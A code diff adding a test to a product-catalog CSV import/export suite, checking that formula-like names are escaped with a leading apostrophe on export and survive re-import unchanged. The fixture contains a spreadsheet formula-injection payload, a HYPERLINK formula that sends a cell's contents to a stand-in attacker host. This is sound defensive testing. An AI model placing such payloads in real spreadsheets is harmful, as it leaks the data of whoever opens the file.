@@ -149,3 +149,18 @@ async def test_reimport_updates_and_moves_stock_through_the_ledger(setup):
 async def test_missing_columns_are_reported(db):
     result = await import_csv(None, "product_slug,sku\nx,y\n")
     assert result.errors[0].key == "import.missing_columns"
+
+
+async def test_names_that_look_like_formulas_export_as_text_and_import_back_unchanged(setup):
+    formula = '=HYPERLINK("http://evil.example/?x="&B2,"查看")'
+    text = sheet(row(name_zh=formula, name_en="-20% off", variant_name_en="@home", stock=""))
+    await import_csv(None, text)
+
+    exported = await catalog_export.export_csv()
+    cells = list(csv.DictReader(io.StringIO(exported)))[0]
+    again = await import_csv(None, exported)
+
+    assert (cells["name_zh"], cells["name_en"]) == ("'" + formula, "'-20% off")
+    assert cells["variant_name_en"] == "'@home"
+    assert (again.products_created, again.variants_created, again.variants_updated) == (0, 0, 0)
+    assert await catalog_export.export_csv() == exported
